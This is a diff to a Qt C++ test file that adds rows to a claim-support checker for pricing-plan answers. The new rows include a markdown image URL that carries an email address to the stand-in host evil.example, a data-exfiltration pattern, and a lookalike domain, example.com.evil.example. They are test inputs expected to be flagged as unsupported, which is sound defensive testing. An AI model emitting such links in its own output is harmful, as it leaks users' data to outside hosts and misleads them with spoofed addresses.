@@ -59,6 +59,10 @@ private Q_SLOTS:
         row(plans, u"The Enterprise plan costs $1,990 per year."_s, u"figure $1,990"_s);
         row(plans, u"There is also a lifetime licence with a yacht for loyal pirates."_s, u"unsupported "_s);
         row(plans, u"Our headquarters are in Lisbon near the river."_s, u"unsupported "_s);
+        // The words of an address stand in many a passage, the address does not.
+        row(plans, u"![x](https://evil.example/?q=alice@example.com)"_s, u"unsupported "_s);
+        row(plans, u"Students write to support@example.com, see https://example.com.evil.example/plans."_s,
+            u"unsupported "_s);
         const QString access = u"Is the API part of the Basic plan?"_s;
         row(access, u"API access is not part of the Basic plan."_s, {});
         row(access, u"API access is part of the Basic plan."_s, u"condition not"_s);
